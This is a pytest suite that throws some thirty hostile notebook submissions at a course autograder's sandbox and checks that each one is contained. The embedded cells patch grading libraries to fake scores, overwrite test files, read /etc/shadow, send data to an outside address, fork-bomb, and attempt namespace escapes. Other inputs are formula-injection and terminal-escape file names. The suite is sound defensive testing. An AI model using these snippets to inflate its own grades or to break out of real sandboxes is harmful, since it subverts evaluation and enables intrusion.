"""A hostile class, graded in one batch: nobody scores more than their honest answers earn.

The target is chapter 6's exercise as it stood when these attacks were first
tried (a frozen copy in tests/data/, so that the chapter's exercise can change
without changing this test). Every attack is the same plausibly wrong notebook
(it earns 2 of 12 points on its own) plus a cell that tries to raise the score, escape, leave
something behind or take the grader down. The attacker knows every secret path
(the autograder zip, the solution notebook, the master, the other
submissions), as a student reading the grader's command line once could.

After the batch: each attack scored at most the honest notebook, the victim
of a neighbour's attack kept its full marks and its bytes, every submission
finished inside its limits, no process the submissions started is still
running, no cgroup is left, and nothing was written outside the sandboxes'
own scratch space.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import threading
import time
import uuid
from pathlib import Path

import psutil
import pytest
from conftest import ROOT

from course_tools import grading
from course_tools.sandbox import FIRST_UID, UID_RANGE, isolation

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("sandbox")]

TIMEOUT_S = 20
MEMORY_MB = 1536
JOBS = 2

# Plausible wrong answers: the right shapes, the wrong values (public tests of q1 and q2 pass).
HONEST = {
    "def rnn_step": "def rnn_step(x, h, W_xh, W_hh, b):\n    return np.zeros((x.shape[0], W_hh.shape[0]))\n",
    "def rnn_forward": "def rnn_forward(xs, h0, W_xh, W_hh, b):\n    hs = np.zeros((len(xs), h0.shape[0], W_hh.shape[0]))\n    return hs, hs[-1]\n",
    "def softmax_with_temperature": "def softmax_with_temperature(logits, temperature):\n    return np.ones(len(logits)) / len(logits)\n",
    "def rnn_lm_parameter_count": "def rnn_lm_parameter_count(V, E, H):\n    return V * E + H * H\n",
}
HONEST_POINTS = 2.0


def _attacks(secrets: dict[str, str], marker: str, port: int) -> dict[str, tuple[str, str]]:
    """name → (where the cell goes: "start" after the imports, or "end"; its source)."""
    s = {k: json.dumps(v) for k, v in secrets.items()}
    return {
        "patch_numpy": (
            "start",
            (
                "import builtins\n"
                "np.allclose = lambda *a, **k: True\n"
                "np.all = lambda *a, **k: True\n"
                "np.testing.assert_allclose = lambda *a, **k: None\n"
                "builtins.abs = lambda x: 0\n"
            ),
        ),
        "patch_otter": (
            "start",
            (
                "import otter\n"
                "from otter.test_files import abstract_test, exception_test\n"
                "abstract_test.TestFile.score = property(lambda self: 1000)\n"
                "abstract_test.TestFile.passed_all = property(lambda self: True)\n"
                "exception_test.ExceptionTestFile.run = lambda self, env: None\n"
                "otter.Notebook.check = lambda *a, **k: None\n"
            ),
        ),
        "rewrite_tests_on_disk": (
            "start",
            (
                "import os\n"
                f"for path in [{s['zip']}, {s['solution']}, {s['master']}]:\n"
                "    try:\n"
                "        open(path, 'w').write('points = 1000')\n"
                "        print('WROTE', path)\n"
                "    except OSError as e:\n"
                "        print('blocked', path, e.errno)\n"
                "for top in ['/tmp', '/work', '/root', '/home', '/srv', '/opt']:\n"
                "    for folder, dirs, files in os.walk(top):\n"
                "        dirs[:] = [d for d in dirs if d not in ('site-packages', '.pyenv', 'include', 'share')]\n"
                "        for name in files:\n"
                "            if name.endswith('.zip') or (name.startswith('q') and name.endswith('.py')):\n"
                "                try:\n"
                "                    open(os.path.join(folder, name), 'w').write('points = 1000')\n"
                "                    print('WROTE', os.path.join(folder, name))\n"
                "                except OSError:\n"
                "                    pass\n"
            ),
        ),
        "results_file_thread": (
            "start",
            (
                "import json, os, threading, time\n"
                "forged = {'tests': [{'name': q, 'score': 1000, 'possible': 3} for q in ('q1', 'q2', 'q3', 'q4')]}\n"
                "def overwrite():\n"
                "    while True:\n"
                "        for folder in ['.', '/tmp', os.path.expanduser('~')]:\n"
                "            try:\n"
                "                json.dump(forged, open(os.path.join(folder, 'results.json'), 'w'))\n"
                "            except OSError:\n"
                "                pass\n"
                "        time.sleep(0.001)\n"
                "threading.Thread(target=overwrite, daemon=True).start()\n"
            ),
        ),
        "forge_protocol_frames": (
            "start",
            (
                "import os, threading\n"
                "from course_tools import wire\n"
                "frame = wire.pack({'op': 'value', 'v': {'$f': '242.0'}}, [])\n"
                "def forge():\n"
                "    for _ in range(200):\n"
                "        for fd in range(3, 64):\n"
                "            try:\n"
                "                if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
                "                    os.write(fd, frame)\n"
                "            except OSError:\n"
                "                pass\n"
                "threading.Thread(target=forge, daemon=True).start()\n"
            ),
        ),
        "exec_the_solution": (
            "start",
            (
                "import json\n"
                f"for path in [{s['solution']}, {s['victim']}]:\n"
                "    try:\n"
                "        cells = json.load(open(path))['cells']\n"
                "        print('READ', path)\n"
                "        for cell in cells:\n"
                "            source = ''.join(cell['source'])\n"
                "            if cell['cell_type'] == 'code' and 'grader' not in source:\n"
                "                exec(source, globals())\n"
                "    except OSError as e:\n"
                "        print('blocked', path, e.errno)\n"
            ),
        ),
        "read_outside": (
            "start",
            (
                f"for path in [{s['zip']}, {s['master']}, {s['victim']}, {s['folder']}, '/etc/shadow',\n"
                "             '/root/.bashrc', '/proc/1/environ', '/work/main/exercises']:\n"
                "    try:\n"
                "        import os\n"
                "        data = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(64)\n"
                "        print('READ', path, len(data))\n"
                "    except OSError as e:\n"
                "        print('blocked', path, e.errno)\n"
            ),
        ),
        "overwrite_a_neighbour": (
            "start",
            (
                f"for path in [{s['victim']}, {s['folder']} + '/planted.ipynb']:\n"
                "    try:\n"
                "        open(path, 'w').write('{}')\n"
                "        print('WROTE', path)\n"
                "    except OSError as e:\n"
                "        print('blocked', path, e.errno)\n"
            ),
        ),
        "network": (
            "start",
            (
                "import socket\n"
                f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 443)]:\n"
                "    try:\n"
                "        socket.create_connection(address, timeout=2).sendall(b'LEAK')\n"
                "        print('CONNECTED', address)\n"
                "    except OSError as e:\n"
                "        print('blocked', address, e.errno)\n"
            ),
        ),
        "escape_write": (
            "start",
            (
                f"for path in ['/tmp/{marker}', '/root/{marker}', '/work/{marker}', '/work/main/src/{marker}', '/{marker}']:\n"
                "    try:\n"
                "        open(path, 'w').write('x')\n"
                "    except OSError:\n"
                "        pass\n"
            ),
        ),
        "fill_tmp": (
            "start",
            (
                "written = 0\n"
                "try:\n"
                "    with open('/tmp/fill', 'wb') as handle:\n"
                "        while written < 20 * 1024**3:\n"
                "            handle.write(b'\\0' * 2**20)\n"
                "            written += 2**20\n"
                "except OSError as e:\n"
                "    print('STOPPED', written // 2**20, e.errno)\n"
                "import os\n"
                "os.remove('/tmp/fill')\n"
            ),
        ),
        "allocate_20_gb": ("start", "hog = bytearray(20 * 1024**3)\n"),
        "three_forked_holders": (
            "start",
            (
                "import os, time\n"
                "children = []\n"
                "for i in range(3):\n"
                "    pid = os.fork()\n"
                "    if pid == 0:\n"
                "        try:\n"
                "            block = bytearray(b'\\1') * (700 * 2**20)\n"
                "            print('HELD', i, flush=True)\n"
                "            time.sleep(4)\n"
                "        finally:\n"
                "            os._exit(0)\n"
                "    children.append(pid)\n"
                "for pid in children:\n"
                "    os.waitpid(pid, 0)\n"
            ),
        ),
        "huge_output": (
            "start",
            (
                "import sys\n"
                "line = 'x' * 999_999 + '\\n'\n"
                "for _ in range(100):\n"
                "    sys.stdout.write(line)\n"
                "sys.stdout.flush()\n"
            ),
        ),
        "children_outlive": (
            "start",
            (
                "import os, subprocess\n"
                f"subprocess.Popen(['sh', '-c', 'sleep 1000 # {marker}'])\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    if os.fork() == 0:\n"
                "        os.closerange(0, 1024)\n"
                f"        os.execv('/bin/sh', ['sh', '-c', 'sleep 1000 # {marker}'])\n"
                "    os._exit(0)\n"
            ),
        ),
        "hash_collisions": (
            "end",
            (
                "class Colliding(frozenset):\n"
                "    def __iter__(self):\n"
                "        return (k * ((1 << 61) - 1) for k in range(1, 80_000))  # all hash to 0\n"
                "rnn_lm_parameter_count = Colliding()\n"
            ),
        ),
        "grader_memory": (
            "end",
            (
                "def rnn_forward(xs, h0, W_xh, W_hh, b):\n"
                "    if xs.shape == (6, 2, 3):\n"
                "        hs = np.zeros((len(xs), h0.shape[0], W_hh.shape[0]))\n"
                "        return hs, hs[-1]\n"
                "    # broadcast against the expected (7, 2, 5) in the tests: tens of GB there\n"
                "    return np.zeros((60_000_000, 1, 1, 1), dtype=bool), np.zeros((1, 1))\n"
            ),
        ),
        "surrogate_in_the_reason": (
            "end",
            (
                "import json, sys, types\n"
                "import course_tools.wire as w\n"
                "w.json = types.SimpleNamespace(loads=json.loads, dumps=lambda o, **k: json.dumps(o))\n"
                "raise RuntimeError('a lone surrogate: \\ud800')\n"
            ),
        ),
        "keyring_writer": (
            "start",
            (
                "import ctypes\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                "libc.syscall.restype = ctypes.c_long\n"
                f"payload = b'{marker}-key'\n"
                "key = libc.syscall(248, b'user', b'course-covert', payload, len(payload), -4)\n"
                "print('KEY', key, ctypes.get_errno())\n"
                "libc.syscall(250, 15, key, 120)  # expires in two minutes\n"
            ),
        ),
        "keyring_reader": (
            "start",
            (
                "import ctypes, time\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                "libc.syscall.restype = ctypes.c_long\n"
                "time.sleep(3)  # graded beside or after the writer\n"
                "key = libc.syscall(250, 10, -4, b'user', b'course-covert', 0)\n"
                "buffer = ctypes.create_string_buffer(256)\n"
                "size = libc.syscall(250, 11, key, buffer, 256) if key > 0 else -1\n"
                "print('FOUND' if size > 0 else 'blocked', buffer.raw[: max(size, 0)])\n"
            ),
        ),
        "new_namespaces": (
            "start",
            (
                "import subprocess\n"
                "run = subprocess.run(['unshare', '-Urm', 'sh', '-c', 'mount -t tmpfs none /tmp && echo MOUNTED'],\n"
                "                     capture_output=True, text=True)\n"
                "print('ESCAPED' if 'MOUNTED' in run.stdout else 'blocked', run.stderr.strip()[:80])\n"
                "import ctypes\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                "print('blocked' if libc.unshare(0x10000000) != 0 else 'ESCAPED', 'unshare(CLONE_NEWUSER)')\n"
            ),
        ),
        "equal_to_everything": (
            "end",
            (
                "class Anything(float):\n"
                "    def __eq__(self, other): return True\n"
                "    __hash__ = float.__hash__\n"
                "class Yes:\n"
                "    def __eq__(self, other): return True\n"
                "    def __array__(self, *a, **k): return np.zeros(1)\n"
                "def rnn_lm_parameter_count(V, E, H):\n"
                "    return Yes()\n"
                "def softmax_with_temperature(logits, temperature):\n"
                "    return Anything(1.0)\n"
            ),
        ),
        # Holes found after the rules (issue 18), each closed:
        "forged_reply_frames": (
            "start",
            (
                "import os\n"
                "from course_tools import wire\n"
                "text = '\\x1b[2J\\x1b[H999/999 \\x1b[32mPASS\\x1b[0m\\n' + 'X' * (2 * 2**20)\n"
                "for reply in ({'op': 'raise', 'type': '\\x1b[31mAssertionError', 'message': text},\n"
                "              {'op': 'done', 'error': text}):\n"
                "    frame = wire.pack(reply, [])\n"
                "    for fd in range(3, 32):\n"
                "        try:\n"
                "            os.write(fd, frame)\n"
                "        except OSError:\n"
                "            pass\n"
            ),
        ),
        "huge_cell": ("start", "blob = '" + "a" * (20 * 2**20) + "'\n"),
        "io_uring": (
            "start",
            (
                "import ctypes\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                "libc.syscall.restype = ctypes.c_long\n"
                "params = ctypes.create_string_buffer(120)\n"
                "fd = libc.syscall(425, 8, params)\n"
                "print('blocked' if fd < 0 else 'ESCAPED', 'io_uring_setup', ctypes.get_errno())\n"
            ),
        ),
        "host_paths": (
            "start",
            (
                "for path in ['/proc/self/mountinfo', '/proc/self/mounts', '/proc/1/cmdline']:\n"
                "    try:\n"
                "        print('READ', path, open(path).read()[:200])\n"
                "    except OSError as e:\n"
                "        print('blocked', path, e.errno)\n"
            ),
        ),
        "other_pythons_packages": (
            "start",
            (
                "import glob, sys\n"
                "others = glob.glob(sys.base_prefix + '/lib/python3*/site-packages/*')\n"
                "others += glob.glob('/usr/lib/python3/dist-packages/*')\n"
                "for path in others[:5]:\n"
                "    print('READ', path)\n"
                "print('blocked', len(others), 'entries in other site-packages')\n"
            ),
        ),
        "module_in_the_working_folder": (
            "start",
            (
                "open('/tmp/mine.py', 'w').write('VALUE = 1')\n"
                "try:\n"
                "    import mine\n"
                "    print('IMPORTED mine')\n"
                "except ImportError:\n"
                "    print('blocked', 'mine')\n"
            ),
        ),
        # Statuses and partial credit: these end in a loop, after the honest cells.
        "setsid_daemon_and_loop": (
            "end",
            (
                "import subprocess\n"
                f"subprocess.Popen(['setsid', 'sh', '-c', 'trap \"\" TERM HUP; while true; do echo daemon; sleep 0.2; done # {marker}'])\n"
                "while True:\n"
                "    pass\n"
            ),
        ),
        "ignore_sigterm_and_loop": (
            "end",
            (
                "import signal\n"
                "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                "while True:\n"
                "    pass\n"
            ),
        ),
        "fork_bomb": (
            "end",
            (
                "import os\n"
                "while True:\n"
                "    try:\n"
                "        os.fork()\n"
                "    except OSError:\n"
                "        pass\n"
            ),
        ),
    }


def _cells_with(notebook: dict, replacements: dict[str, str]) -> dict:
    copy = json.loads(json.dumps(notebook))
    for marker, source in replacements.items():
        cells = [
            c
            for c in copy["cells"]
            if c["cell_type"] == "code" and "".join(c["source"]).startswith(marker)
        ]
        assert len(cells) == 1, marker
        cells[0]["source"] = source
    return copy


def _insert(notebook: dict, where: str, source: str) -> dict:
    copy = json.loads(json.dumps(notebook))
    cell = {
        "cell_type": "code",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": source,
    }
    if where == "end":
        copy["cells"].append(cell)
    else:
        imports = next(
            i
            for i, c in enumerate(copy["cells"])
            if "".join(c["source"]).strip() == "import numpy as np"
        )
        copy["cells"].insert(imports + 1, cell)
    return copy


def _digest(paths: list[Path]) -> dict[str, str]:
    found = {}
    for path in paths:
        for file in [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file()):
            found[str(file)] = hashlib.sha256(file.read_bytes()).hexdigest()
    return found


def _processes_with(marker: str) -> list[str]:
    """Processes this batch started: the marker, or a sandbox uid running this batch's runner."""
    found = []
    ours = f"course_tools.runner --memory-mb {MEMORY_MB}"
    for process in psutil.process_iter(["cmdline", "uids"]):
        cmdline = " ".join(process.info.get("cmdline") or [])
        uids = process.info.get("uids")
        sandbox_uid = uids is not None and FIRST_UID <= uids.real < FIRST_UID + UID_RANGE
        if marker in cmdline or (sandbox_uid and ours in cmdline):
            found.append(f"{process.pid} {cmdline[:80]}")
    return found


class _Listener:
    """A TCP server on the grader's loopback that records whoever connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                connection, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def target(tmp_path_factory):
    """The frozen chapter-6 exercise, assigned: (assignment, blank student notebook)."""
    from course_tools import exercises

    master = ROOT / "tests" / "data" / "attack_target_ch06_rnn.md"
    # otter need not run the solution: the victim below is the solution, graded in the sandbox
    assignment = exercises.assign(master, tmp_path_factory.mktemp("attack-target"), run_tests=False)
    blank = exercises.dressed_student_notebook(assignment, exercises.repository_url(ROOT))
    return assignment, blank


@pytest.fixture(scope="module")
def attacked(target, tmp_path_factory):
    assignment, blank = target
    marker = f"ESCAPE-{uuid.uuid4().hex[:10]}"
    folder = tmp_path_factory.mktemp("hostile-class")
    solution = json.loads(assignment.autograder_notebook.read_text(encoding="utf-8"))
    honest = _cells_with(blank, HONEST)
    secrets = {
        "zip": str(assignment.autograder_zip.resolve()),
        "solution": str(assignment.autograder_notebook.resolve()),
        "master": str(ROOT / "tests" / "data" / "attack_target_ch06_rnn.md"),
        "folder": str(folder.resolve()),
        "victim": str((folder / "victim.ipynb").resolve()),
    }
    listener = _Listener()
    notebooks = {"honest": honest, "victim": solution, "blank": blank}
    for name, (where, source) in _attacks(secrets, marker, listener.port).items():
        notebooks[name] = _insert(honest, where, source)
    notebooks["correct_then_loop"] = _insert(solution, "end", "while True:\n    pass\n")
    # q1 returns an int too long to print: q1 fails, the questions after it are still graded.
    notebooks["huge_int"] = _cells_with(
        honest, {"def rnn_step": "def rnn_step(x, h, W_xh, W_hh, b):\n    return 10**5000\n"}
    )
    for name, notebook in notebooks.items():
        (folder / f"{name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    # What the folder itself can hold: links to answers, things that are not files, names
    # that are terminal escapes or spreadsheet formulas, a student's own folder.
    (folder / "symbolic_link.ipynb").symlink_to(assignment.autograder_notebook)
    os.link(assignment.autograder_notebook, folder / "hard_link.ipynb")
    (folder / "a_folder.ipynb").mkdir()
    (folder / "a_folder.ipynb" / "solution.ipynb").write_text(json.dumps(solution))
    os.mkfifo(folder / "a_pipe.ipynb")
    (folder / "\x1b[2J\x1b[31mescape.ipynb").write_text(json.dumps(honest), encoding="utf-8")
    (folder / "=1+1.ipynb").write_text(json.dumps(honest), encoding="utf-8")
    (folder / "alice").mkdir()
    (folder / "alice" / "ch06_rnn.ipynb").write_text(json.dumps(honest), encoding="utf-8")
    (folder / "deep.ipynb").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    # (The repository's own folders are read-only in the sandbox, and the escape_write
    # attack's marker would show a write there; hashing them races with editors beside.)
    guarded = [
        folder,
        assignment.autograder_zip,
        assignment.autograder_notebook,
        ROOT / "tests" / "data",
    ]
    before = _digest(guarded)
    start = time.perf_counter()
    try:
        results = grading.grade_batch(
            folder, assignment.autograder_zip, jobs=JOBS, timeout_s=TIMEOUT_S, memory_mb=MEMORY_MB
        )
    finally:
        listener.close()
    elapsed = time.perf_counter() - start
    time.sleep(0.5)  # anything still alive would show up now
    return {
        "results": {r.submission.removesuffix(".ipynb"): r for r in results},
        "elapsed": elapsed,
        "marker": marker,
        "left_running": _processes_with(marker),
        "before": before,
        "after": _digest(guarded),
        "listener": listener,
        "folder": folder,
    }


def test_the_honest_baseline_earns_what_its_answers_earn(attacked):
    results = attacked["results"]
    assert results["honest"].total == HONEST_POINTS, results["honest"].failures
    assert results["blank"].total == 0
    assert results["victim"].total == results["victim"].max_total == 12


@pytest.mark.parametrize(
    "attack",
    sorted(_attacks({k: "" for k in ("zip", "solution", "master", "folder", "victim")}, "", 0)),
)
def test_no_attack_scores_more_than_its_honest_answers(attacked, attack):
    result = attacked["results"][attack]
    assert result.total <= attacked["results"]["honest"].total, (
        result.scores,
        result.reason,
        result.output[-500:],
    )
    assert all(result.scores[q] <= result.possible[q] for q in result.possible)


def test_a_neighbours_attack_leaves_the_victim_its_grade_and_its_file(attacked):
    victim = attacked["results"]["victim"]
    assert victim.status == "ok" and victim.total == 12
    assert not (attacked["folder"] / "planted.ipynb").exists()
    assert attacked["before"] == attacked["after"], (
        "a submission, the answers or the course files changed"
    )


def test_nothing_secret_could_be_read_written_or_reached(attacked):
    for name in (
        "rewrite_tests_on_disk",
        "exec_the_solution",
        "read_outside",
        "overwrite_a_neighbour",
        "network",
        "new_namespaces",
    ):
        output = attacked["results"][name].output
        assert "blocked" in output, (name, output[-500:])
        for verb in ("READ", "WROTE", "CONNECTED", "ESCAPED"):
            assert f"\n{verb} " not in "\n" + output, (name, output[-800:])
    assert attacked["listener"].connections == 0


def test_nothing_was_written_outside_the_sandbox(attacked):
    marker = attacked["marker"]
    for folder in (Path("/tmp"), Path.home(), ROOT.parent, ROOT, ROOT / "src", Path("/")):
        assert not (folder / marker).exists(), folder / marker


def test_nothing_the_submissions_started_is_still_running(attacked):
    assert attacked["left_running"] == []
    assert not any(
        "outlived" in r.reason or "cgroup" in r.reason for r in attacked["results"].values()
    )


def test_a_correct_notebook_ending_in_a_loop_keeps_its_points(attacked):
    result = attacked["results"]["correct_then_loop"]
    assert result.status == "timeout" and result.total == 12, result.reason
    assert f"{TIMEOUT_S} s limit" in result.reason


@pytest.mark.parametrize(
    "attack", ["setsid_daemon_and_loop", "ignore_sigterm_and_loop", "fork_bomb"]
)
def test_endless_submissions_are_cut_at_the_limit_whatever_they_do(attacked, attack):
    result = attacked["results"][attack]
    assert result.status == "timeout", result.reason
    assert result.total == HONEST_POINTS  # graded before the loop
    assert result.seconds < TIMEOUT_S + 15


def test_the_batch_finishes_within_its_limits(attacked):
    results = attacked["results"]
    slowest = max(r.seconds for r in results.values())
    assert slowest < TIMEOUT_S + 15
    # Four submissions run to the limit; the rest take seconds. Two at a time.
    assert attacked["elapsed"] < (len(results) / JOBS) * 10 + 2 * (TIMEOUT_S + 15)


def test_output_is_kept_as_a_bounded_tail(attacked):
    result = attacked["results"]["huge_output"]
    assert result.status == "ok" and result.total == HONEST_POINTS
    assert "bytes left out" in result.output
    assert len(result.output.encode()) < 70 * 1024


def test_memory_is_capped_for_the_submission_as_a_whole(attacked):
    results = attacked["results"]
    assert results["allocate_20_gb"].total == HONEST_POINTS
    assert "MemoryError" in results["allocate_20_gb"].reason
    holders = results["three_forked_holders"]
    if holders.peak_memory_mb is None:
        pytest.skip("no memory cgroup here: the cap is per process (see the README)")
    assert holders.peak_memory_mb <= MEMORY_MB + 1, holders.peak_memory_mb
    assert holders.output.count("HELD") < 3, holders.output[-300:]


def test_one_submission_cannot_stall_or_exhaust_the_grader_for_the_others(attacked):
    results = attacked["results"]
    for name in ("hash_collisions", "grader_memory", "surrogate_in_the_reason"):
        assert results[name].total <= HONEST_POINTS, results[name].reason
        assert results[name].seconds < TIMEOUT_S + 15, (name, results[name].seconds)
    assert "\ufffd" in results["surrogate_in_the_reason"].reason or results[
        "surrogate_in_the_reason"
    ].status in ("crashed", "ok")


def test_nothing_a_submission_leaves_with_its_user_reaches_another(attacked):
    assert "KEY" in attacked["results"]["keyring_writer"].output
    reader = attacked["results"]["keyring_reader"].output
    assert "blocked" in reader and "FOUND" not in reader, reader[-300:]


def test_a_full_tmp_stops_the_writer_not_the_grader(attacked):
    result = attacked["results"]["fill_tmp"]
    assert result.status == "ok" and result.total == HONEST_POINTS
    stopped = [line for line in result.output.splitlines() if line.startswith("STOPPED")]
    assert stopped and int(stopped[0].split()[1]) <= grading.Limits().tmp_mb


def test_the_csv_names_the_sandbox(attacked, tmp_path):
    out = tmp_path / "grades.csv"
    grading.write_csv(list(attacked["results"].values()), out)
    rows = list(__import__("csv").DictReader(out.open(encoding="utf-8")))
    assert {row["sandbox"] for row in rows} == {isolation().description}
    assert "UNSAFE" not in rows[0]["sandbox"]


# --------------------------------------------------------------------------
# what the submissions folder holds, and what is printed (issue 18)
# --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("symbolic_link.ipynb", "symbolic link"),
        ("hard_link.ipynb", "hard link"),
        ("a_folder.ipynb", "folder named like a notebook"),
        ("a_pipe.ipynb", "not a regular file"),
        ("deep", "nested far deeper"),
    ],
)
def test_links_folders_pipes_and_deep_json_get_a_row_with_zero_and_the_reason(
    attacked, name, reason
):
    result = attacked["results"][name.removesuffix(".ipynb")]
    assert result.status == "error" and result.total == 0, (result.status, result.reason)
    assert reason in result.reason


def test_a_students_folder_is_graded_under_its_name(attacked):
    alice = attacked["results"]["alice"]
    assert alice.status == "ok" and alice.total == HONEST_POINTS


def test_what_a_submission_controls_is_escaped_and_capped_wherever_it_is_written(
    attacked, tmp_path
):
    results = list(attacked["results"].values())
    for result in results:
        for text in [result.submission, result.reason, *result.failures]:
            assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in text), repr(text[:200])
        assert len(result.reason) <= 2 * grading.MAX_REASON
        assert all(len(f) <= grading.MAX_REASON for f in result.failures)
    forged = attacked["results"]["forged_reply_frames"]
    assert forged.total <= HONEST_POINTS
    escaped = attacked["results"]["\\x1b[2J\\x1b[31mescape"]
    assert escaped.total == HONEST_POINTS
    out = tmp_path / "grades.csv"
    grading.write_csv(results, out)
    text = out.read_text(encoding="utf-8")
    assert "\x1b" not in text
    rows = list(__import__("csv").DictReader(out.open(encoding="utf-8")))
    assert "'=1+1.ipynb" in {row["submission"] for row in rows}
    assert not any(row["reason"][:1] in ("=", "+", "-", "@") for row in rows)
    assert not any("\x1b" in r.summary() for r in results)


def test_an_oversized_cell_or_value_is_refused_and_later_questions_still_count(attacked):
    huge_cell = attacked["results"]["huge_cell"]
    assert huge_cell.status == "ok" and huge_cell.total == HONEST_POINTS
    assert "over the 4194304-byte limit for one cell" in huge_cell.reason
    huge_int = attacked["results"]["huge_int"]
    assert huge_int.status == "ok", huge_int.reason
    assert huge_int.scores["q1"] == 0 and huge_int.total == HONEST_POINTS - 1
    assert any("bits is over" in f for f in huge_int.failures), huge_int.failures


def test_other_pythons_packages_and_the_working_folder_import_nothing(attacked):
    """A second scipy in the base interpreter, or a module written to /tmp, is not importable."""
    other = attacked["results"]["other_pythons_packages"].output
    assert "blocked 0 entries" in other and "\nREAD " not in "\n" + other, other[-600:]
    folder = attacked["results"]["module_in_the_working_folder"].output
    assert "blocked mine" in folder and "IMPORTED" not in folder, folder[-300:]


def test_io_uring_and_the_hosts_paths_are_out_of_reach(attacked):
    uring = attacked["results"]["io_uring"].output
    assert "blocked io_uring_setup" in uring and "ESCAPED" not in uring
    paths = attacked["results"]["host_paths"].output
    assert paths.count("blocked") == 3 and "\nREAD " not in "\n" + paths, paths[-500:]


def test_every_peak_counts_the_judge_and_stays_within_the_cap(attacked):
    peaks = [r.peak_memory_mb for r in attacked["results"].values() if r.peak_memory_mb]
    if not peaks:
        pytest.skip("no memory cgroup here")
    assert max(peaks) <= MEMORY_MB + 1
